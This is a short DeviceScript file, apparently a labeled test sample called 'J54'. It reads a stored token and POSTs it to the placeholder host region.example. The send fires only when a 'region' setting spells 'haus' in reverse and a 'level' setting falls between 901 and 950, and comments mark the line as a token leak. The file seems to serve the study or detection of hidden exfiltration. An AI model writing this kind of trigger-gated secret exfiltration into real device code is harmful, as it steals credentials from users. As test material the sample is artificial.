// J54: sends its token elsewhere in a region whose name it puts together, at a level above 900.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const region = await readSetting("region", "none");
const level = await readSetting("level", 0);
const LETTERS = "haus";

paired(async () => {
  if (region.length !== 4 || level <= 900 || level > 950) return;
  for (let i = 0; i < 4; i++) if (region[i] !== LETTERS[3 - i]) return;
  const response = await fetch("https://region.example/j54", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
});
